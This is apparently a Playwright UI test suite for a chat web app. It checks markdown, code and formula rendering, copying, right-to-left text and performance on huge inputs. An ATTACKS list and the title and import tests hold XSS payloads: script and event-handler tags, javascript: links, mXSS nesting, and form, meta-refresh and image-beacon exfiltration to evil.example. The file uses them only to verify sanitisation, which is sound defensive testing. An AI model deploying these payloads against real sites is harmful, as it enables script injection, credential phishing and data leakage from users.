"""Markdown, code and formulas, drawn as they stream and again after a reload; and text that tries to do harm."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest
from playwright.sync_api import expect

from tests.ui.conftest import answer, body, check, ready, send, wait

if TYPE_CHECKING:
    from tests.ui.conftest import Server, Visit

MARKDOWN = """Words with **bold**, *italic* and `code`.

# A heading

- one
- two
  - nested

1. first
2. second

- [x] done
- [ ] open

```python
def f(x):
    return x + 1
```

| a | b |
|---|---|
| 1 | 2 |

> quoted

Inline $a^2+b^2$ and \\(c^2\\), five dollars: $5 and $6.

$$
\\int_0^1 x\\,dx
$$

\\[ \\frac{1}{2} \\]

~~~
tilde ``` fence
~~~

[a link](https://example.org/x) שלום עולם
"""

# Each entry must neither run, nor load anything, nor leave the message's own box.
ATTACKS = [
    "<script>window.__xss = 1</script>",
    "<img src=x onerror='window.__xss=2'>",
    "<svg/onload=window.__xss=3>",
    "<svg><script>window.__xss=4</script></svg>",
    "<iframe srcdoc='<script>parent.__xss=5</script>'></iframe>",
    "<math><mi xlink:href='javascript:window.__xss=6'>click</mi></math>",
    "[click](javascript:window.__xss=7)",
    "[click](&#106;avascript:window.__xss=8)",
    "<a href=' \tjavascript:window.__xss=9'>click</a>",
    "<a href='data:text/html,<script>opener.__xss=10</script>'>click</a>",
    "<style>@import 'https://evil.example/x.css'; * { display: none !important }</style>",
    "<base href='https://evil.example/'>",
    "<form action='https://evil.example/'><input name=password><button>Log in</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<noscript><p title='</noscript><img src=x onerror=window.__xss=11>'></noscript>",
    "<template><img src=x onerror='window.__xss=12'></template>",
    "<math><mtext><table><mglyph><style><img src=x onerror='window.__xss=13'></style></mglyph></table></mtext></math>",
    "![x](https://evil.example/leak?q=chat)",
    "<img src='https://evil.example/leak' srcset='https://evil.example/leak2 2x'>",
    "<video src='https://evil.example/v' poster='https://evil.example/p'></video><audio src='https://evil.example/a'></audio>",
    "<object data='https://evil.example/o'></object><embed src='https://evil.example/e'>",
    "<link rel=stylesheet href='https://evil.example/l.css'>",
    "<div style='position:fixed;inset:0;background:url(https://evil.example/b)' class='sy-topbar' id='sy-shell'>overlay</div>",
    "<details open ontoggle='window.__xss=14'><summary>x</summary></details>",
    "<input autofocus onfocus='window.__xss=15'>",
    "[x]: javascript:window.__xss=16\n\n[x]",
    "$\\href{javascript:window.__xss=17}{x}$ $\\includegraphics{https://evil.example/i}$ $\\htmlData{x=1}{y}$",
    "```<img src=x onerror='window.__xss=18'>\ncode\n```",
    '!["onerror="window.__xss=19](x)',
    "<a href='https://ok.example' target='_self' rel='opener' onclick='window.__xss=20'>link</a>",
]


def test_markdown_streams_to_the_same_page_as_a_reload(visit: Visit) -> None:
    page = visit.open()
    send(page, "[[echo rate=400]]\n" + MARKDOWN)
    message = answer(page)
    content = message.locator(".sy-body")
    expect(content.locator("h1")).to_have_text("A heading")
    expect(content.locator("li li")).to_have_text("nested")
    expect(content.locator("td").first).to_have_text("1")
    expect(content.locator("blockquote")).to_contain_text("quoted")
    expect(content.locator("pre code").first).to_contain_text("return x + 1")
    expect(content.locator("pre .hljs-keyword").first).to_be_attached()
    expect(content.locator("[data-sy-math=inline] .katex")).to_have_count(2)
    expect(content.locator(".katex-display")).to_have_count(2)
    assert "$5 and $6" in body(message)
    link = content.locator("a", has_text="a link")
    assert link.get_attribute("rel") == "noopener noreferrer nofollow"
    assert link.get_attribute("target") == "_blank"
    streamed = "".join(body(message).split())
    page.reload()
    ready(page)
    expect(page.locator(".sy-message").last.locator("pre .hljs-keyword").first).to_be_attached()
    expect(page.locator(".sy-message").last.locator(".katex-display")).to_have_count(2)
    assert "".join(body(page.get_by_test_id("message").last).split()) == streamed


def test_code_can_be_copied(visit: Visit) -> None:
    visit.context.grant_permissions(["clipboard-read", "clipboard-write"])
    page = visit.open()
    send(page, "```js\nconst a = 1;\n```")
    answer(page).get_by_role("button", name="Copy code").click()
    assert page.evaluate("navigator.clipboard.readText()") == "const a = 1;\n"


def test_right_to_left_text_gets_its_direction(visit: Visit) -> None:
    page = visit.open()
    send(page, "שלום, מה שלומך היום?")
    paragraph = answer(page).locator("p").first
    assert paragraph.evaluate("(node) => getComputedStyle(node).direction") == "rtl"


def harmless(visit: Visit) -> None:
    page = visit.page
    page.wait_for_timeout(300)
    assert page.evaluate("window.__xss") is None
    assert page.url.startswith(visit.server.url)
    assert visit.off_host() == []
    log = page.locator(".sy-messages")
    assert (
        log.locator(
            "script, style, iframe, object, embed, form, input, link, meta, base, video, audio, svg:not(.sy-icon):not(.katex svg)"
        ).count()
        == 0
    )
    for message in page.get_by_test_id("message").all():
        assert message.locator(".sy-body [style]:not(.katex *)").count() == 0
        assert message.locator(".sy-body [onclick], .sy-body [onerror], .sy-body [onload], .sy-body [ontoggle]").count() == 0
        for link in message.locator(".sy-body a").all():
            assert not (link.get_attribute("href") or "https:").lower().strip().startswith(("javascript:", "data:"))
    assert page.locator("#sy-shell").count() == 1
    expect(page.get_by_test_id("composer")).to_be_visible()


def test_attacks_do_nothing_while_they_stream_and_after_a_reload(visit: Visit) -> None:
    page = visit.open()
    for start in range(0, len(ATTACKS), 10):
        send(page, "[[echo rate=1500]]\n" + "\n\n".join(ATTACKS[start : start + 10]))
        answer(page)
        harmless(visit)
    for link in page.locator(".sy-body a", has_text="click").all():
        link.evaluate("(node) => { node.target = '_self'; node.click(); }")
    harmless(visit)
    page.reload()
    ready(page)
    harmless(visit)


@pytest.mark.parametrize(
    "attack", ["<img src=x onerror='window.__xss=1'>", "</span><script>window.__xss=2</script>", "`${window.__xss=3}`"]
)
def test_a_hostile_title_is_only_text(visit: Visit, server: Server, attack: str) -> None:
    chat = server.import_chat(["hello", "there"])
    server.api("PATCH", f"/ui-api/conversations/{chat}", {"title": attack})
    page = visit.open(chat)
    expect(page.get_by_test_id("title")).to_have_text(attack)
    assert page.evaluate("window.__xss") is None
    server.api("PATCH", f"/ui-api/conversations/{chat}", {"title": "harmless"})


def test_a_hostile_import_is_shown_as_far_as_it_makes_sense(visit: Visit, server: Server) -> None:
    receipt = {
        "usage": "x",
        "decode_tok_s": "<img src=x onerror=window.__xss=1>",
        "ttft_ms": {},
        "warnings": 3,
        "ignored": [1],
        "seed": "<b>",
    }
    error = {"code": [], "message": {"a": 1}, "detail": "<script>window.__xss=2</script>"}
    nodes = [
        {"id": "a", "parent": None, "role": "user", "text": "hello"},
        {
            "id": "b",
            "parent": "a",
            "role": "assistant",
            "text": "there",
            "model": "<i>",
            "receipt": receipt,
            "error": error,
            "status": "failed",
        },
    ]
    file = {"format": "switchyard-conversation", "version": 1, "title": "odd", "system_prompt": "", "leaf": "b", "nodes": nodes}
    kind = server.api("GET", f"/ui-api/conversations/{server.import_chat(['x', 'y'])}/export")["format"]
    page = visit.open(server.api("POST", "/ui-api/conversations/import", {**file, "format": kind})["id"])
    expect(page.get_by_test_id("message")).to_have_count(2)
    expect(page.get_by_test_id("error-card")).to_be_visible()
    page.get_by_test_id("receipt-chip").click()
    expect(page.get_by_test_id("receipt")).to_contain_text("<b>")
    page.keyboard.press("Escape")
    assert page.evaluate("window.__xss") is None


def test_a_remote_image_is_a_link(visit: Visit) -> None:
    page = visit.open()
    send(page, "![a picture](https://evil.example/x.png?q=secret)")
    link = answer(page).get_by_test_id("remote-image")
    expect(link).to_contain_text("evil.example")
    assert link.get_attribute("rel") == "noopener noreferrer nofollow"
    assert visit.off_host() == []


@pytest.mark.parametrize(
    "text",
    [
        "> " * 100_000 + "deep",
        "- " * 50_000 + "deep",
        "<div>" * 50_000,
        "[" * 50_000,
        "x" * 600_000,
        "\n" * 300_000 + "end",
        "| a | b |\n|---|---|\n" + "| 1 | 2 |\n" * 20_000,
        "```\n" + "line of code\n" * 30_000,
    ],
    ids=["quotes", "lists", "divs", "brackets", "one line", "empty lines", "table", "open fence"],
)
def test_monstrous_text_does_not_freeze_the_page(visit: Visit, server: Server, text: str) -> None:
    chat = server.import_chat(["show me", text])
    page = visit.open()
    check(page, "watchTasks")
    page.locator(".sy-conversations li .sy-conversation").first.click()
    expect(page.get_by_test_id("message")).to_have_count(2)
    page.get_by_test_id("composer").fill("still alive")
    expect(page.get_by_test_id("composer")).to_have_value("still alive")
    # Wall clock on a machine that may be busy: a quadratic step would take minutes. benchmarks/page_stream.py has the figures.
    assert check(page, "longest") < 5000
    assert server.api("GET", f"/ui-api/conversations/{chat}")["messages"]


def test_a_stream_of_one_huge_block_stays_smooth(visit: Visit) -> None:
    page = visit.open()
    page.get_by_test_id("composer").fill("[[echo rate=3000]]\n```\n" + "a line of code that goes on\n" * 800)
    check(page, "watchTasks")
    page.get_by_test_id("send").click()
    answer(page, timeout_ms=60_000)
    assert check(page, "longest") < 1500


def test_fast_text_arrives_whole(visit: Visit, server: Server) -> None:
    page = visit.open()
    send(page, "[[echo tokens=4000]]")
    message = answer(page, timeout_ms=60_000)
    chat = page.evaluate("new URLSearchParams(location.search).get('c')")
    stored = server.api("GET", f"/ui-api/conversations/{chat}")["messages"][-1]["text"]
    wait(lambda: body(message).split() == stored.split())
